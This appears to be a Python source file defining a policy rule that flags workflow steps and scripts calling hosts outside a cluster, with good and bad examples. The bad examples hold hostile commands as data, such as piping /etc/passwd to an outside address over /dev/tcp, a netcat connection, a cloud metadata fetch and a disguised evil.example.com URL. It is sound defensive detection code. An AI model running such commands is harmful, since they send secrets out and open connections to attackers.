from __future__ import annotations

from collections.abc import Iterator

from atom.gate.network import external_addresses, opaque_calls
from atom.gate.rule import Objection, Rule, Severity
from atom.gate.scopes import Call, Script

RULE = Rule(
    id="WPK301",
    name="external-network-call",
    severity=Severity.MEDIUM,
    scope=(Call, Script),
    why="A call to a host outside the cluster can carry data out, bring code in, and fail when the incident is worst.",
    remedy="Call a service inside the cluster (name.namespace.svc), or mirror what is needed into it.",
    sources=("MITRE ATT&CK T1041, T1105",),
    bad=(
        "step: {uses: http.request@v1, with: {url: 'https://hooks.example.com/notify'}}",
        "script: curl -s http://169.254.169.254/latest/meta-data/",
        "script: cat /etc/passwd > /dev/tcp/203.0.113.9/443",
        "script: nc 203.0.113.9 443",
        "script: curl http://cart.svc@evil.example.com/",
        "script: wget http://$HOST/x",
        """step: {uses: http.request@v1, with: {query: {cel: "'https://sink.example.com/' + params.name"}}}""",
        "pod: {containers: [{name: a, env: [{name: SINK, value: 'tcp://logs.example.com:514'}]}]}",
    ),
    good=(
        "step: {uses: http.request@v1, with: {url: 'http://cart.shop.svc.cluster.local:8080/healthz'}}",
        "script: curl -sf http://cart:8080/healthz",
        "script: nc -z cart.shop.svc 8080",
        "script: 'curl http://10.0.0.7/ && curl http://127.0.0.1:9090/-/ready'",
    ),
)


@RULE.check
def external_call(view: Call | Script) -> Iterator[Objection]:
    if isinstance(view, Script):
        for command in opaque_calls(view.text):
            yield RULE.finding(view.pointer, f"the command reaches another host: {command[:120]}")
        return
    for at, text in view.texts():
        for host in external_addresses(text):
            yield RULE.finding(at, f"{host[:120]} is, or may be, outside the cluster")
